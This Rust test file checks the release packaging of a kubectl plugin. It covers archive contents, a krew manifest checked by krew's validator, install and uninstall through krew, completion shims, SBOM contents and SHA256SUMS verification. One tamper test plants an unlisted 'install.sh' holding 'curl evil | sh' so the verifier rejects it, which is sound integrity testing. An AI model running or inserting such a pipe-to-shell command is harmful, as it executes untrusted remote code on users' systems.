//! Packaging for real: `scripts/package` builds the archive and renders the krew manifest;
//! krew's own validator (`validate-krew-manifest`, built by scripts/setup from the pinned krew
//! module) accepts it, installing it over HTTP as krew does; the real krew installs it into a
//! temporary KREW_ROOT; the real kubectl dispatches to the installed plugin, which finds the
//! plugin.yaml shipped in the archive next to its real executable through krew's symlink; the
//! completion helper set up as the caveats say leaves krew working after an uninstall; and
//! `scripts/package --verify` re-checks every released file against SHA256SUMS.
//!
//! The tests package their own debug build (`scripts/package --bin-dir`), so no second cargo
//! build runs inside `cargo test`.

use std::io::{BufRead, BufReader, Write};
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::Command;

use crate::completion::{candidates, kubectl_with, run_with};
use crate::fixture::{Namespace, Run, cluster, root, text_of};

const VERSION: &str = env!("CARGO_PKG_VERSION");

/// The plugin.yaml shipped in the test archives: a name of its own, so its use is visible.
const ARCHIVE_PLUGIN_YAML: &str = "name: myops-from-archive\nverbs: [get]\nresources: [pods]\nscopes: [namespace]\nmetrics: [ops_total]\n";

fn archive_name() -> String {
    format!("kubectl-myops-v{VERSION}-linux-amd64.tar.gz")
}

/// The homepage the tests give a manifest whose archives are served over HTTP.
const HOMEPAGE: &str = "https://myops.example/kubectl-myops";

/// Runs `scripts/package` on the test's debug binaries into `out`, archives served from `url`.
/// An http(s) `url` is a published release, which needs a homepage: MYOPS_HOMEPAGE is set then.
fn package(out: &Path, url: &str) -> Run {
    let r = package_with(out, url, &[]);
    assert_eq!(r.code, 0, "scripts/package failed: {r:?}");
    r
}

/// `scripts/package --bin-dir <test build> --out out` with `env` added; the Run, whatever its exit.
fn package_with(out: &Path, url: &str, env: &[(&str, &str)]) -> Run {
    let exe = Path::new(env!("CARGO_BIN_EXE_kubectl-myops"));
    let bin_dir = exe.parent().unwrap();
    assert_eq!(
        Path::new(env!("CARGO_BIN_EXE_kubectl_complete-myops")).parent(),
        Some(bin_dir)
    );
    let plugin_yaml = out.with_extension("plugin.yaml");
    std::fs::write(&plugin_yaml, ARCHIVE_PLUGIN_YAML).unwrap();
    let o = Command::new(root().join("scripts/package"))
        .args([
            "--bin-dir",
            bin_dir.to_str().unwrap(),
            "--out",
            out.to_str().unwrap(),
        ])
        .args(["--plugin-yaml", plugin_yaml.to_str().unwrap()])
        .env("MYOPS_RELEASE_URL", url)
        .env_remove("MYOPS_HOMEPAGE")
        .envs(
            url.starts_with("http")
                .then_some(("MYOPS_HOMEPAGE", HOMEPAGE)),
        )
        .envs(env.iter().copied())
        .output()
        .expect("scripts/package runs");
    Run {
        code: o.status.code().unwrap_or(-1),
        stdout: text_of(&o.stdout),
        stderr: text_of(&o.stderr),
    }
}

/// A fresh KREW_ROOT as `kubectl krew update` leaves it, without the network: bin/ and the
/// default plugin index as a git clone (an empty one: `krew list`/`uninstall` refuse to run
/// without an index, cmd/krew/cmd/root.go checkIndex).
fn new_krew_root(krew_root: &Path) {
    std::fs::create_dir_all(krew_root.join("bin")).unwrap();
    let index = krew_root.join("index/default");
    std::fs::create_dir_all(&index).unwrap();
    let o = Command::new("git")
        .args(["init", "-q"])
        .current_dir(&index)
        .output()
        .expect("git runs");
    assert!(o.status.success(), "git init: {}", text_of(&o.stderr));
}

/// The man pages the archive ships: the repository's man/*.1 (`scripts/package --man`).
fn man_pages() -> Vec<String> {
    let mut pages: Vec<String> = std::fs::read_dir(root().join("man"))
        .map(|d| {
            d.flatten()
                .map(|e| e.file_name().to_string_lossy().into_owned())
                .filter(|n| n.ends_with(".1"))
                .collect()
        })
        .unwrap_or_default();
    pages.sort();
    pages
}

/// A minimal HTTP server for the files of `dir` (what a release page would serve).
fn serve(dir: PathBuf) -> String {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    std::thread::spawn(move || {
        for conn in listener.incoming().flatten() {
            let dir = dir.clone();
            std::thread::spawn(move || {
                let mut reader = BufReader::new(&conn);
                let mut request = String::new();
                let _ = reader.read_line(&mut request);
                let mut header = String::new();
                while reader.read_line(&mut header).is_ok_and(|n| n > 2) {
                    header.clear();
                }
                let name = request
                    .split(' ')
                    .nth(1)
                    .unwrap_or("/")
                    .trim_start_matches('/');
                let body = (!name.contains("..") && !name.is_empty())
                    .then(|| std::fs::read(dir.join(name)).ok())
                    .flatten();
                let mut w = &conn;
                let _ = match body {
                    Some(b) => w
                        .write_all(format!("HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n", b.len()).as_bytes())
                        .and_then(|_| w.write_all(&b)),
                    None => w.write_all(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"),
                };
            });
        }
    });
    url
}

/// krew's manifest validator, built by scripts/setup from the pinned krew module
/// (sigs.k8s.io/krew/cmd/validate-krew-manifest, the check krew-index runs on a pull request).
fn validator() -> PathBuf {
    let v = root().join("target/testbin/validate-krew-manifest");
    assert!(v.exists(), "{} is missing: run scripts/setup", v.display());
    v
}

#[test]
fn package_makes_an_archive_and_a_manifest_that_krews_validator_accepts() {
    let t = tempfile::tempdir().unwrap();
    let dist = t.path().join("dist");
    std::fs::create_dir_all(&dist).unwrap();
    let url = serve(dist.clone());
    package(&dist, &url);

    let archive = dist.join(archive_name());
    let listing = Command::new("tar")
        .args(["tzf", archive.to_str().unwrap()])
        .output()
        .unwrap();
    let mut files: Vec<String> = text_of(&listing.stdout)
        .lines()
        .map(str::to_string)
        .collect();
    files.sort();
    let mut want: Vec<String> = [
        "LICENSE",
        "completions/",
        "completions/_kubectl-myops",
        "completions/_kubectl-myops.ps1",
        "completions/kubectl-myops.bash",
        "completions/kubectl-myops.fish",
        "kubectl-myops",
        "kubectl_complete-myops",
        "kubectl_complete-myops.sh",
        "plugin.yaml",
    ]
    .map(String::from)
    .to_vec();
    let pages = man_pages();
    if !pages.is_empty() {
        want.push("man/".into());
        want.extend(pages.iter().map(|p| format!("man/{p}")));
    }
    want.sort();
    assert_eq!(files, want);
    let sum = text_of(
        &Command::new("sha256sum")
            .arg(&archive)
            .output()
            .unwrap()
            .stdout,
    );
    let sum = sum.split(' ').next().unwrap();
    assert!(
        sum.len() == 64
            && sum
                .bytes()
                .all(|b| b.is_ascii_digit() || (b'a'..=b'f').contains(&b)),
        "{sum}"
    );
    let manifest = std::fs::read_to_string(dist.join("myops.yaml")).unwrap();
    for want in [
        "apiVersion: krew.googlecontainertools.github.com/v1alpha2\nkind: Plugin\nmetadata:\n  name: myops\n".to_string(),
        format!("  version: v{VERSION}\n"),
        format!("    uri: {url}/{}\n    sha256: {sum}\n    bin: kubectl-myops\n", archive_name()),
        format!("  homepage: {HOMEPAGE}\n"),
        "      - {from: kubectl_complete-myops.sh, to: .}\n".to_string(),
    ] {
        assert!(manifest.contains(&want), "manifest lacks {want:?}:\n{manifest}");
    }
    // What a krew-index reviewer reads: a short one-line shortDescription, a description of
    // what the plugin does rather than its command list, short caveats.
    let field = |name: &str| -> Vec<&str> {
        let mut lines = manifest
            .lines()
            .skip_while(|l| !l.starts_with(&format!("  {name}:")));
        let first = lines
            .next()
            .unwrap_or_else(|| panic!("no {name}:\n{manifest}"));
        let mut v = vec![first];
        v.extend(lines.take_while(|l| l.is_empty() || l.starts_with("    ")));
        v
    };
    let short = field("shortDescription");
    assert_eq!(
        short,
        ["  shortDescription: Guarded kubectl with undoable, journaled changes"]
    );
    let description = field("description").join("\n");
    assert!(
        description.contains("SelfSubjectAccessReview") && !description.contains("Commands:"),
        "{description}"
    );
    let caveats = field("caveats");
    assert!(caveats.len() <= 12, "caveats of {} lines", caveats.len());
    assert!(
        !caveats.iter().any(|l| l.contains(".krew}/bin")),
        "caveats must not put anything into krew's bin directory: {caveats:?}"
    );
    assert_eq!(
        std::fs::read_to_string(dist.join(format!("{}.sha256", archive_name()))).unwrap(),
        format!("{sum}  {}\n", archive_name())
    );

    // krew's own validator: structure, platforms, and an install (from the uri) that must
    // extract a LICENSE file. It runs `kubectl krew install`, so kubectl-krew goes on PATH.
    let tools = t.path().join("tools");
    std::fs::create_dir_all(&tools).unwrap();
    std::os::unix::fs::symlink(
        root().join("target/testbin/krew"),
        tools.join("kubectl-krew"),
    )
    .unwrap();
    let v = validator();
    let r = run_with(
        &v,
        &[&tools],
        &[("HOME".into(), t.path().display().to_string())],
        &["-manifest", dist.join("myops.yaml").to_str().unwrap()],
    );
    assert_eq!(r.code, 0, "validate-krew-manifest: {r:?}");
    for want in [
        "structural validation OK",
        "no overlapping spec.platform[].selector",
        "all 1 spec.platforms installed fine",
    ] {
        assert!(r.stderr.contains(want), "{want} missing: {}", r.stderr);
    }
}

#[test]
fn krew_installs_the_archive_and_kubectl_runs_the_plugin_with_its_plugin_yaml() {
    let _ = cluster();
    let ns = Namespace::new("krew");
    ns.pod("web-1");
    let t = tempfile::tempdir().unwrap();
    let dist = t.path().join("dist");
    std::fs::create_dir_all(&dist).unwrap();
    package(&dist, &format!("file://{}", dist.display()));
    let manifest = dist.join("myops.yaml");
    let krew_root = t.path().join("krew");
    let krew_bin = krew_root.join("bin");
    let env: Vec<(String, String)> = vec![
        ("HOME".into(), t.path().join("home").display().to_string()),
        (
            "MYOPS_HOME".into(),
            t.path().join("myops").display().to_string(),
        ),
        (
            "KUBECONFIG".into(),
            cluster().kubeconfig.display().to_string(),
        ),
        ("KREW_ROOT".into(), krew_root.display().to_string()),
        ("KREW_NO_UPGRADE_CHECK".into(), "1".into()),
    ];
    new_krew_root(&krew_root);

    let r = run_with(
        &root().join("target/testbin/krew"),
        &[&krew_bin],
        &env,
        &[
            "install",
            &format!("--manifest={}", manifest.display()),
            &format!("--archive={}", dist.join(archive_name()).display()),
        ],
    );
    assert_eq!(r.code, 0, "krew install: {r:?}");
    assert!(r.stderr.contains("Installed plugin: myops"), "{r:?}");
    assert!(
        r.stderr.contains("Caveats:") && r.stderr.contains("~/.local/bin/kubectl_complete-myops"),
        "{r:?}"
    );
    // krew warns only that stdin (not a terminal here) is ignored with --manifest.
    let warnings: Vec<&str> = r
        .stderr
        .lines()
        .filter(|l| l.contains("WARNING") && !l.contains("Detected stdin"))
        .collect();
    assert!(warnings.is_empty(), "{warnings:?}");
    let store = krew_root.join(format!("store/myops/v{VERSION}"));
    assert_eq!(
        std::fs::read_link(krew_bin.join("kubectl-myops")).unwrap(),
        store.join("kubectl-myops")
    );
    for f in [
        "LICENSE",
        "plugin.yaml",
        "kubectl_complete-myops",
        "kubectl_complete-myops.sh",
        "completions/kubectl-myops.bash",
    ] {
        assert!(store.join(f).exists(), "{f} not installed");
    }

    // Through the real kubectl's plugin dispatch, from krew's bin directory only.
    let kubectl = |args: &[&str]| kubectl_with(&[&krew_bin], &env, args);
    let r = kubectl(&["myops", "version"]);
    assert_eq!(r.code, 0, "{r:?}");
    assert!(
        r.stdout.starts_with(&format!("kubectl-myops {VERSION}\n")),
        "{r:?}"
    );
    let r = kubectl(&["plugin", "list"]);
    assert_eq!(
        (r.code, r.stderr.as_str()),
        (0, ""),
        "plugin list warned: {r:?}"
    );
    assert!(
        r.stdout
            .contains(&format!("{}\n", krew_bin.join("kubectl-myops").display())),
        "{r:?}"
    );

    // plugin.yaml from the archive, next to the real executable behind krew's symlink.
    let r = kubectl(&["myops", "config", "validate"]);
    assert_eq!(r.code, 0, "{r:?}");
    let shipped = std::fs::canonicalize(store.join("plugin.yaml")).unwrap();
    assert!(
        r.stdout.starts_with(&format!(
            "{}: valid\n  name: myops-from-archive\n",
            shipped.display()
        )),
        "{r:?}"
    );

    let r = kubectl(&["myops", "get", "pods", "-n", &ns.0]);
    assert_eq!(r.code, 0, "{r:?}");
    assert!(
        r.stdout.starts_with("NAME ") && r.stdout.contains("\nweb-1 "),
        "{r:?}"
    );
    // Flags after the plugin name, before the verb.
    let r = kubectl(&["myops", "-n", &ns.0, "get", "pods", "-o", "name"]);
    assert_eq!((r.code, r.stdout.as_str()), (0, "pod/web-1\n"), "{r:?}");
    // The archive's boundary is the one in force: deployments are outside it.
    let r = kubectl(&["myops", "get", "deployments", "-n", &ns.0]);
    assert_eq!(r.code, 3, "{r:?}");
    assert!(
        r.stderr.contains(
            "resource \"deployments.apps\" is not in `resources` of plugin myops-from-archive"
        ),
        "{r:?}"
    );

    // The caveats' step copies the completion helper's shim into ~/.local/bin (a directory of
    // the user's on PATH, outside krew's); kubectl then completes through it.
    let step = std::fs::read_to_string(&manifest)
        .unwrap()
        .lines()
        .find(|l| l.trim_start().starts_with("mkdir -p ~/.local/bin"))
        .expect("the caveats say how to install kubectl_complete-myops")
        .trim()
        .to_string();
    let r = run_with(Path::new("/bin/sh"), &[], &env, &["-c", &step]);
    assert_eq!(r.code, 0, "{step}: {r:?}");
    let local_bin = t.path().join("home/.local/bin");
    assert!(local_bin.join("kubectl_complete-myops").is_file());
    let kubectl = |args: &[&str]| kubectl_with(&[&krew_bin, &local_bin], &env, args);
    let r = kubectl(&["__complete", "myops", "-n", &ns.0, "get", "pods", ""]);
    assert_eq!(candidates(&r), (vec!["web-1".to_string()], 4), "{r:?}");

    // Uninstall: krew's bin directory is left empty, so krew keeps working (a file left there
    // made krew 0.4.3 refuse every command), and the shim left on PATH completes nothing.
    let krew = |args: &[&str]| {
        run_with(
            &root().join("target/testbin/krew"),
            &[&krew_bin],
            &env,
            args,
        )
    };
    // Not a terminal: `krew list` prints the plugins' names only (installed from a manifest:
    // index "detached").
    let r = krew(&["list"]);
    assert_eq!(
        (r.code, r.stdout.as_str()),
        (0, "detached/myops\n"),
        "krew list: {r:?}"
    );
    let r = krew(&["uninstall", "myops"]);
    assert_eq!(r.code, 0, "krew uninstall: {r:?}");
    assert_eq!(std::fs::read_dir(&krew_bin).unwrap().count(), 0);
    let r = krew(&["list"]);
    assert_eq!((r.code, r.stdout.as_str()), (0, "\n"), "krew list: {r:?}");
    let r = run_with(
        &local_bin.join("kubectl_complete-myops"),
        &[&krew_bin, &local_bin],
        &env,
        &["get", "pods", ""],
    );
    assert_eq!(
        (r.code, r.stdout.as_str(), r.stderr.as_str()),
        (0, "", ""),
        "{r:?}"
    );
    let r = kubectl(&["__complete", "myops", ""]);
    assert_eq!(r.code, 0, "{r:?}");
}

/// Issue 14 item 3: the install notes linked kubectl_complete-myops into $KREW_ROOT/bin; after
/// `kubectl krew uninstall myops` the link stayed there (dangling) and krew 0.4.3 refused every
/// command with "krew home outdated" (sigs.k8s.io/krew internal/receiptsmigration: files in
/// bin/ and no receipts). The real krew, with that old recipe, to keep the reason on record.
#[test]
fn completion_link_in_krew_bin_broke_every_krew_command_after_uninstall() {
    let t = tempfile::tempdir().unwrap();
    let dist = t.path().join("dist");
    std::fs::create_dir_all(&dist).unwrap();
    package(&dist, &format!("file://{}", dist.display()));
    let krew_root = t.path().join("krew");
    let krew_bin = krew_root.join("bin");
    new_krew_root(&krew_root);
    let env: Vec<(String, String)> = vec![
        ("HOME".into(), t.path().join("home").display().to_string()),
        ("KREW_ROOT".into(), krew_root.display().to_string()),
        ("KREW_NO_UPGRADE_CHECK".into(), "1".into()),
    ];
    let krew = |args: &[&str]| {
        run_with(
            &root().join("target/testbin/krew"),
            &[&krew_bin],
            &env,
            args,
        )
    };
    let r = krew(&[
        "install",
        &format!("--manifest={}", dist.join("myops.yaml").display()),
        &format!("--archive={}", dist.join(archive_name()).display()),
    ]);
    assert_eq!(r.code, 0, "krew install: {r:?}");
    let old_step = r#"ln -sf "$(dirname "$(readlink -f "${KREW_ROOT:-$HOME/.krew}/bin/kubectl-myops")")/kubectl_complete-myops" "${KREW_ROOT:-$HOME/.krew}/bin/""#;
    let r = run_with(Path::new("/bin/sh"), &[], &env, &["-c", old_step]);
    assert_eq!(r.code, 0, "{r:?}");
    let r = krew(&["uninstall", "myops"]);
    assert_eq!(r.code, 0, "krew uninstall: {r:?}");
    let left: Vec<_> = std::fs::read_dir(&krew_bin)
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .collect();
    assert_eq!(left, ["kubectl_complete-myops"]);
    let r = krew(&["list"]);
    assert_eq!(r.code, 1, "{r:?}");
    assert!(r.stderr.contains("krew home outdated"), "{r:?}");
}

/// `scripts/package --verify DIR` on what scripts/package wrote: every file matches SHA256SUMS.
#[test]
fn verify_accepts_the_release_directory_scripts_package_wrote() {
    let t = tempfile::tempdir().unwrap();
    let dist = t.path().join("dist");
    package(&dist, &format!("file://{}", dist.display()));
    let sums = std::fs::read_to_string(dist.join("SHA256SUMS")).unwrap();
    let names: Vec<&str> = sums
        .lines()
        .map(|l| l.split_once("  ").unwrap().1)
        .collect();
    let archive = archive_name();
    let archive_sum = format!("{archive}.sha256");
    let sbom = sbom_name();
    assert_eq!(
        names,
        [archive.as_str(), archive_sum.as_str(), &sbom, "myops.yaml"]
    );
    let r = verify(&dist);
    assert_eq!(r.code, 0, "{r:?}");
    assert_eq!(
        r.stdout,
        format!("{archive}: OK\n{archive_sum}: OK\n{sbom}: OK\nmyops.yaml: OK\n")
    );
    assert!(
        r.stderr.contains("verified: 4 files match SHA256SUMS"),
        "{r:?}"
    );
}

/// A release whose archive changed after packaging (one byte) must not verify: the archive
/// differs from SHA256SUMS, from its .sha256 and from the manifest's platform sha256.
#[test]
fn verify_fails_on_a_tampered_archive() {
    let t = tempfile::tempdir().unwrap();
    let dist = t.path().join("dist");
    package(&dist, &format!("file://{}", dist.display()));
    let archive = dist.join(archive_name());
    let mut bytes = std::fs::read(&archive).unwrap();
    let mid = bytes.len() / 2;
    bytes[mid] ^= 0x01;
    std::fs::write(&archive, bytes).unwrap();
    let r = verify(&dist);
    assert_eq!(r.code, 1, "{r:?}");
    let name = archive_name();
    for want in [
        format!("{name}: FAILED (sha256 differs from SHA256SUMS)\n"),
        format!("{name}: FAILED (differs from {name}.sha256)\n"),
        format!("{name}: FAILED (differs from its sha256 in myops.yaml, "),
    ] {
        assert!(r.stdout.contains(&want), "{want:?} missing: {r:?}");
    }
    assert!(
        r.stderr.contains("does not verify: do not install from it"),
        "{r:?}"
    );
}

/// A file added to a release directory, or one listed and gone, fails the check by name.
#[test]
fn verify_fails_on_an_unlisted_or_missing_file() {
    let t = tempfile::tempdir().unwrap();
    let dist = t.path().join("dist");
    package(&dist, &format!("file://{}", dist.display()));
    std::fs::write(dist.join("install.sh"), "curl evil | sh\n").unwrap();
    std::fs::remove_file(dist.join("myops.yaml")).unwrap();
    let r = verify(&dist);
    assert_eq!(r.code, 1, "{r:?}");
    assert!(
        r.stdout.contains("install.sh: NOT LISTED in SHA256SUMS\n"),
        "{r:?}"
    );
    assert!(r.stdout.contains("myops.yaml: MISSING\n"), "{r:?}");
}

/// A manifest for an http(s) release needs a real homepage: packaging one without
/// MYOPS_HOMEPAGE (or Cargo.toml's homepage) stops with what to set.
#[test]
fn package_refuses_a_published_manifest_without_a_homepage() {
    let t = tempfile::tempdir().unwrap();
    let dist = t.path().join("dist");
    // package_with sets MYOPS_HOMEPAGE for http URLs; an empty one is "not set".
    let r = package_with(
        &dist,
        "https://releases.example/myops",
        &[("MYOPS_HOMEPAGE", "")],
    );
    assert_eq!(r.code, 1, "{r:?}");
    assert!(
        r.stderr
            .contains("the manifest has no homepage: set MYOPS_HOMEPAGE"),
        "{r:?}"
    );
    assert!(!dist.join("myops.yaml").exists());
}

fn sbom_name() -> String {
    format!("kubectl-myops-v{VERSION}-linux-amd64.cdx.json")
}

/// The release's SBOM (cargo-cyclonedx) is CycloneDX 1.5 JSON naming this package, and its
/// crates are Cargo.lock's entries built for linux/amd64: every component is in Cargo.lock with
/// its locked version and crates.io checksum, the TLS and Kubernetes crates are there with a
/// license, Windows-only crates are not. Its timestamp is the commit's time (reproducible).
#[test]
fn package_writes_a_cyclonedx_sbom_of_the_locked_crates() {
    let t = tempfile::tempdir().unwrap();
    let dist = t.path().join("dist");
    package(&dist, &format!("file://{}", dist.display()));
    let sbom: serde_json::Value =
        serde_json::from_slice(&std::fs::read(dist.join(sbom_name())).unwrap()).unwrap();
    assert_eq!(sbom["bomFormat"], "CycloneDX");
    assert_eq!(sbom["specVersion"], "1.5");
    assert_eq!(sbom["metadata"]["component"]["name"], "kubectl-myops");
    assert_eq!(sbom["metadata"]["component"]["version"], VERSION);
    let commit_time = text_of(
        &Command::new("git")
            .args([
                "log",
                "-1",
                "--date=format-local:%Y-%m-%dT%H:%M:%S",
                "--format=%cd",
            ])
            .env("TZ", "UTC")
            .current_dir(root())
            .output()
            .unwrap()
            .stdout,
    );
    let ts = sbom["metadata"]["timestamp"].as_str().unwrap();
    assert_eq!(
        ts,
        format!("{}.000000000Z", commit_time.trim()),
        "SBOM timestamp vs the commit's time"
    );

    // Cargo.lock's packages: (name, version) -> checksum.
    let lock = std::fs::read_to_string(root().join("Cargo.lock")).unwrap();
    let mut locked = std::collections::HashMap::<(String, String), Option<String>>::new();
    for block in lock.split("[[package]]").skip(1) {
        let field = |k: &str| {
            block
                .lines()
                .find_map(|l| l.strip_prefix(&format!("{k} = \"")))
                .map(|v| v.trim_end_matches('"').to_string())
        };
        locked.insert(
            (field("name").unwrap(), field("version").unwrap()),
            field("checksum"),
        );
    }
    let components = sbom["components"].as_array().unwrap();
    assert!(components.len() > 100, "{} components", components.len());
    for c in components {
        let key = (
            c["name"].as_str().unwrap().to_string(),
            c["version"].as_str().unwrap().to_string(),
        );
        let checksum = locked
            .get(&key)
            .unwrap_or_else(|| panic!("{key:?} is in the SBOM, not in Cargo.lock"));
        assert_eq!(
            c["hashes"][0]["content"].as_str(),
            checksum.as_deref(),
            "{key:?}"
        );
        assert_eq!(c["purl"], format!("pkg:cargo/{}@{}", key.0, key.1));
    }
    for name in ["kube-client", "k8s-openapi", "rustls", "ring", "hyper"] {
        let c = components
            .iter()
            .find(|c| c["name"] == name)
            .unwrap_or_else(|| panic!("{name} missing from the SBOM"));
        assert!(c["licenses"][0]["expression"].is_string(), "{c}");
    }
    assert!(
        !components.iter().any(|c| c["name"] == "windows-sys"),
        "the linux/amd64 SBOM lists Windows crates"
    );
}

/// Runs `scripts/package --verify dir`.
fn verify(dir: &Path) -> Run {
    let o = Command::new(root().join("scripts/package"))
        .args(["--verify", dir.to_str().unwrap()])
        .output()
        .expect("scripts/package runs");
    Run {
        code: o.status.code().unwrap_or(-1),
        stdout: text_of(&o.stdout),
        stderr: text_of(&o.stderr),
    }
}
